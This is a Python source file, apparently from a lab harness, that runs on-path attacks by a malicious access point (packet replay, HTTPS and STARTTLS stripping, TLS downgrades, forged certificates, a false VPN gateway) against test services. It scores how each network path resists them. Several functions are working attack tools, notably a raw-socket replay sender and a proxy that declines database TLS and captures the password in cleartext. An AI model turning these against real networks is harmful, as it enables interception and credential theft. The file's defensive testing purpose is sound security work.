# SPDX-License-Identifier: MIT
"""Who can change what: real attacks by the access point, on each path, and what became of them.

Every attack is tried on every path. What it came to is read from three places: what the attacking program did (its own count), what the
client's program got (the true content, a forged one, an error), and what the tunnel's counters say. The verdicts:

  unnoticed   the forgery reached the person, or a secret the attacker (level "open")
  broke       the connection ended with an error: nothing false was taken, nothing true came (level "part")
  dropped     the attack was made and the person noticed nothing of it: the true content came (level "shut")
  no target   the attacker found nothing that it could take hold of, and the true content came (level "shut")
  no TLS      the attack is one on TLS, and this path has none (level "absent")
"""
import base64
import json
import os
import socket
import struct
import subprocess
import sys

from arena import FORGED, Arena, forget_sessions, summary
from authority import DOMAIN
from lab import Failure, wait_until
from pcap import Tap
from tunnel import CULVERTD, Tunnel
from visibility import cell, unmeasured
from world import CLIENT, GATEWAY, HOSTS, PATHS, TUNNELLED, drops_of

FORGED_ANSWER = (b"HTTP/1.1 200 OK\r\nContent-Length: 7\r\nConnection: close\r\n\r\nFORGED\n").hex()
RAW_SENDER = """
import json, socket, sys
target, packets = sys.argv[1], json.load(open(sys.argv[2]))
with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
    for packet in packets:
        s.sendto(bytes.fromhex(packet), (target, 0))
"""
STREAM_SENDER = """
import socket, sys
with socket.create_connection((sys.argv[1], int(sys.argv[2])), 10) as s:
    s.sendall(open(sys.argv[3], 'rb').read())
    s.settimeout(2)
    got = b""
    try:
        while part := s.recv(65536):
            got += part
    except OSError:
        pass
    print(got[:60])
"""
DATABASE_BY_ANOTHER_ADDRESS = "198.51.100.2"
DECLINING_PROXY = """
import select, socket, sys
with socket.create_server(("0.0.0.0", 5432)) as server:
    while True:
        near, _ = server.accept()
        while (first := near.recv(8)) in (bytes.fromhex("0000000804d2162f"), bytes.fromhex("0000000804d21630")):
            print("declined", flush=True)
            near.sendall(b"N")
        if not first:
            continue
        far = socket.create_connection((sys.argv[1], 5432), 10)
        far.sendall(first)
        going = True
        while going:
            for one in select.select([near, far], [], [])[0]:
                data = one.recv(65536)
                going = going and bool(data)
                (far if one is near else near).sendall(data)
                if one is near:
                    print("".join(chr(c) if 32 <= c < 127 else " " for c in data), flush=True)
"""
ROWS = {}
ATTACKS = []


def attack(key, title):
    def register(function):
        ROWS[key] = title
        ATTACKS.append((key, function))
        return function

    return register


# ------------------------------------------------------------------------------------------------------------------ the wire


@attack("flip", "a bit flipped in a page")
def _(arena):
    with arena.wire(flip={"least": 600, "skip": 3, "times": 1}) as wire:
        got = arena.fetch("/diary.html")
    with open(os.path.join(arena.world.directory, "www", "diary.html"), encoding="utf-8") as file:
        true = got[0] == 0 and got[1].strip() == file.read().strip()
    return arena.verdict(wire.counts["acted"], true, got[0] == 0 and not true, summary(got), wire.evidence())


@attack("inject", "a response injected")
def _(arena):
    with arena.wire(inject=FORGED_ANSWER) as wire:
        got = arena.fetch()
    return arena.verdict(wire.counts["acted"], arena.true_page(got), FORGED in got[1], summary(got), wire.evidence())


@attack("reset", "a connection reset by a forged packet")
def _(arena):
    with arena.wire(reset=True) as wire:
        got = arena.fetch("/film.bin", "www", "-o", "/dev/null")
    return arena.verdict(wire.counts["acted"], got[0] == 0, False, summary(got), wire.evidence())


@attack("dns", "a DNS answer forged")
def _(arena):
    arena.show_certificate("self-signed")
    with arena.wire(dns="10.10.0.1") as wire:
        address = arena.day.client.attempt("dig", "+short", "+tries=2", "+time=4", f"clinic.{DOMAIN}")[1].strip()
        got = arena.fetch()
    evidence = [*wire.evidence(), f"dig clinic.{DOMAIN}: {address}"]
    made = arena.verdict(wire.counts["acted"], arena.true_page(got), FORGED in got[1], summary(got), evidence)
    if made["level"] == "part":
        made["text"] = f"the name was forged unnoticed (dig: {address}), the certificate then was not: " + made["text"]
    return made


def replay_of(arena, prepare, marker):
    """Records what the client sends, sends it once more from the access point, and counts at the server how often it was obeyed."""
    tap = Tap(arena.ap, "lan", arena.unique("replay"))
    got = prepare()
    recording = tap.stop()
    before = served(arena, marker)
    drops = arena.world.gateway_drops()
    sent = 0
    if arena.path in TUNNELLED:
        packets = [raw.hex() for raw in raw_packets(recording.file) if is_data_up(raw)]
        sent = len(packets)
        arena.ap.run(sys.executable, "-c", RAW_SENDER, GATEWAY, arena.world.lab.write("replay.json", json.dumps(packets)))
    else:
        ways = [(key, text) for key, (text, _) in recording.streams.items() if key[0] == CLIENT]
        if ways:
            key, text = max(ways, key=lambda item: item[1].find(marker.encode()) >= 0 or len(item[1]))
            file = arena.world.lab.path("replay.stream")
            with open(file, "wb") as stream:
                stream.write(text)
            sent = 1
            arena.ap.attempt(sys.executable, "-c", STREAM_SENDER, key[2], key[3], file, within=60)
    if arena.path in TUNNELLED:
        wait_until(lambda: sum(arena.world.gateway_drops().values()) > sum(drops.values()) or served(arena, marker) > before,
                   "the replayed packets to arrive", within=20)
    after = served(arena, marker)
    more = {reason: count - drops.get(reason, 0) for reason, count in arena.world.gateway_drops().items() if count != drops.get(reason, 0)}
    evidence = [f"recorded at the access point and sent again: {sent} {'datagrams' if arena.path in TUNNELLED else 'stream'}",
                f"the server's log holds {marker} {before} times before and {after} times after"]
    if more:
        evidence.append(f"culvertd on the gateway dropped: {json.dumps(more)}")
    return arena.verdict(sent, before == 1 and after == before, after > before, summary(got), evidence)


def served(arena, marker):
    with open(os.path.join(arena.world.directory, "access.log"), encoding="utf-8", errors="replace") as log:
        return log.read().count(marker)


def raw_packets(file):
    """The IPv4 packets of an Ethernet capture, whole."""
    with open(file, "rb") as source:
        data = source.read()
    at = 24
    while at + 16 <= len(data):
        kept = struct.unpack("<I", data[at + 8:at + 12])[0]
        frame, at = data[at + 16:at + 16 + kept], at + 16 + kept
        if frame[12:14] == b"\x08\x00":
            yield frame[14:14 + struct.unpack("!H", frame[16:18])[0]]


def is_data_up(packet):
    return packet[9] == 17 and socket.inet_ntoa(packet[16:20]) == GATEWAY and packet[28:29] == b"\x04"


@attack("replay", "a payment sent once, replayed")
def _(arena):
    marker = arena.unique("/pay?order=")
    return replay_of(arena, lambda: arena.fetch(marker, "www", "-d", "amount=100"), marker)


@attack("replay0rtt", "a 0-RTT payment replayed")
def _(arena):
    if arena.no_tls():
        return arena.no_tls()
    marker, world = arena.unique("/pay?early="), arena.world
    session = world.lab.path("early.session")
    common = ["openssl", "s_client", "-connect", f"www.{DOMAIN}:443", "-servername", f"www.{DOMAIN}", "-CAfile",
              arena.stage.authority.path("ca.crt"), "-tls1_3"]
    hello = f"GET /tick HTTP/1.1\r\nHost: www.{DOMAIN}\r\nConnection: close\r\n\r\n"
    arena.day.client.attempt(*common, "-ign_eof", "-sess_out", session, input=hello)
    early = world.lab.write("early.request", hello.replace("/tick", marker))

    def pay():
        code, text = arena.day.client.attempt(*common, "-ign_eof", "-sess_in", session, "-early_data", early, input="")
        return (0 if "paid" in text else code or 1), " | ".join(line for line in text.splitlines() if "arly" in line or "paid" in line)

    return replay_of(arena, pay, marker)


# ---------------------------------------------------------------------------------------------------------------- downgrades


@attack("strip", "HTTPS stripped at the first visit")
def _(arena):
    if arena.no_tls():
        return arena.no_tls()
    return stripped(arena, [])


@attack("hsts", "HTTPS stripped at a later visit (HSTS)")
def _(arena):
    if arena.no_tls():
        return arena.no_tls()
    memory = arena.world.lab.path("hsts")
    arena.day.curl("--hsts", memory, f"https://www.{DOMAIN}/index.html")
    return stripped(arena, ["--hsts", memory])


def stripped(arena, options):
    """The person types a name without https; a good server would send them on to it, the access point answers instead."""
    arena.show_certificate("self-signed")
    with arena.hijack(HOSTS["www"]) as taken:
        got = arena.day.curl(*options, "--max-time", 15, "-L", f"http://www.{DOMAIN}/move")
    return arena.verdict(len(taken.calls), got[0] == 0 and "lorem" in got[1], FORGED in got[1], summary(got), taken.evidence())


@attack("version", "TLS 1.3 cut down to 1.2 in the hello")
def _(arena):
    # The list of versions has as many members as the client offers: 1.3 and 1.2, or all four.
    return arena.no_tls() or hello_changed(arena, ["002b00050403040303", "002b00050403030303"],
                                           ["002b0009080304030303020301", "002b0009080303030303020301"])


@attack("alpn", "HTTP/2 cut out of the hello (ALPN)")
def _(arena):
    return arena.no_tls() or hello_changed(arena, ["02683208687474702f312e31", "02787808687474702f312e31"])


def hello_changed(arena, *changes):
    with arena.wire(replace=changes) as wire:
        got = arena.fetch()
    return arena.verdict(wire.counts["acted"], arena.true_page(got), wire.counts["acted"] and arena.true_page(got), summary(got),
                         wire.evidence())


def letter(arena, option):
    return arena.day.curl(f"smtp://mail.{DOMAIN}/client.{DOMAIN}", option, "--mail-from", f"person@{DOMAIN}", "--mail-rcpt",
                          f"friend@{DOMAIN}", "-u", f"person:{arena.day.secret('mail_password')}", "--login-options", "AUTH=PLAIN", "-T",
                          arena.world.lab.write("letter.txt", "Subject: hello\r\n\r\nhello\r\n"))


def starttls_cut(arena, option):
    if arena.no_tls():
        return arena.no_tls()
    if "mail" in arena.stage.services.missing:
        return cell("unmeasured", "not measured", f"the mail server is not installed ({arena.stage.services.missing['mail']})")
    credentials = base64.b64encode(b"\0person\0" + arena.day.secret("mail_password").encode()).decode()
    with arena.wire(replace=[[b"STARTTLS".hex(), b"XTARTTLS".hex()]], watch=[credentials]) as wire:
        got = letter(arena, option)
    leaked = bool(wire.counts["watched"])
    return arena.verdict(wire.counts["acted"], got[0] == 0 and not leaked, leaked, summary(got), wire.evidence())


@attack("starttls", "STARTTLS cut out, the client willing")
def _(arena):
    return starttls_cut(arena, "--ssl")


@attack("starttls_strict", "STARTTLS cut out, the client strict")
def _(arena):
    return starttls_cut(arena, "--ssl-reqd")


def sslmode_cut(arena, mode):
    """The access point takes the database's address, declines TLS in its name, and hands on what is then said in the clear."""
    if arena.no_tls():
        return arena.no_tls()
    if "database" in arena.stage.services.missing:
        return cell("unmeasured", "not measured", f"the database is not installed ({arena.stage.services.missing['database']})")
    proxy = arena.ap.spawn(sys.executable, "-c", DECLINING_PROXY, DATABASE_BY_ANOTHER_ADDRESS, label=arena.unique("proxy"))
    wait_until(lambda: arena.ap.listening(5432, "t"), "the proxy to listen", within=30)
    with arena.hijack(HOSTS["db"]):
        got = arena.day.client.attempt("psql", f"host=db.{DOMAIN} user=person dbname=postgres connect_timeout=10 sslmode={mode} "
                                       f"sslrootcert={arena.stage.authority.path('ca.crt')}", "-Atc", "SELECT 41 + 1",
                                       env={**os.environ, "PGPASSWORD": arena.day.secret("database_password")})
    proxy.stop()
    heard = proxy.output()
    leaked = arena.day.secret("database_password") in heard
    return arena.verdict(heard.count("declined"), got[0] == 0 and "42" in got[1] and not leaked, leaked, summary(got),
                         [f"proxy: {' '.join(heard.split())[:240] or 'nobody called'}"])


@attack("sslmode", "a database's TLS refused, sslmode=prefer")
def _(arena):
    return sslmode_cut(arena, "prefer")


@attack("sslmode_strict", "a database's TLS refused, verify-full")
def _(arena):
    return sslmode_cut(arena, "verify-full")


# ------------------------------------------------------------------------------------------------------------ false identities


def impersonated(arena, certificate, *options):
    """The access point takes the server's address and shows a certificate; in the clear it needs none."""
    arena.show_certificate(certificate)
    with arena.hijack(HOSTS["clinic"]) as taken:
        got = arena.fetch("/diary.html", "clinic", *options, "-H", f"Authorization: Bearer {arena.day.secret('token')}")
    return arena.verdict(len(taken.calls), arena.true_page(got), FORGED in got[1], summary(got), taken.evidence())


for _name, _title in (("self-signed", "self-signed"), ("unknown-authority", "by an unknown authority"), ("wrong-name", "for another name"),
                      ("expired", "expired"), ("misissued", "misissued by a trusted authority"), ("revoked", "revoked")):
    attack(f"false_{_name}", f"false server, certificate {_title}")(lambda arena, name=_name: impersonated(arena, name))
attack("false_revoked_crl", "the same revoked one, client with a CRL")(
    lambda arena: arena.no_tls() or impersonated(arena, "revoked", "--crlfile", arena.stage.authority.path("ca.crl")))


@attack("false_gateway", "false VPN gateway")
def _(arena):
    """The access point takes the gateway's address and runs a culvertd with a key of its own; the client must shake hands anew."""
    world = arena.world
    if arena.path not in TUNNELLED:
        return cell("absent", "no tunnel", "the attack is one on the tunnel; there is none on this path")
    false = Tunnel(world.ap, CULVERTD, 9, name=arena.unique("false"))
    false.wg("peer", world.left.public, "allowed-ips", f"{world.left.inside[4]}/32,0.0.0.0/0")
    try:
        with arena.hijack(GATEWAY):
            forget_sessions(world)
            tap = Tap(world.ap, "lan", "false-gateway")
            got = arena.fetch("/diary.html", "clinic", limit=8)
            recording = tap.stop()
            refused = drops_of(false)
    finally:
        false.stop()
        forget_sessions(world)
    initiations = sum(1 for frame in recording.frames if frame.protocol == 17 and frame.target == GATEWAY and frame.payload[:1] == b"\x01")
    answers = sum(1 for frame in recording.frames if frame.protocol == 17 and frame.source == GATEWAY)
    back = wait_until(lambda: world.client.ping(HOSTS["www"], count=1, timeout=2), "the tunnel to come back", within=60)
    evidence = [f"initiations that came to the false gateway: {initiations}; datagrams that it sent back: {answers}",
                f"culvertd on the false gateway dropped: {json.dumps(refused)}",
                f"echoes answered once the true gateway has its address back: {back}"]
    return arena.verdict(initiations, arena.true_page(got), FORGED in got[1] or answers > 0, summary(got), evidence)


def measure(stage, progress):
    """{path: {attack: cell}}."""
    arena, table = Arena(stage), {}
    for path, title in PATHS.items():
        stage.world.go(path)
        arena.path = path
        table[path] = {}
        for number, (key, function) in enumerate(ATTACKS, 1):
            progress(f"attacks, {title}: {number} of {len(ATTACKS)}, {ROWS[key]}")
            try:
                table[path][key] = function(arena)
            except (Failure, subprocess.TimeoutExpired, OSError) as why:  # one attack that cannot be made spoils no other
                table[path][key] = unmeasured(why)
    return table
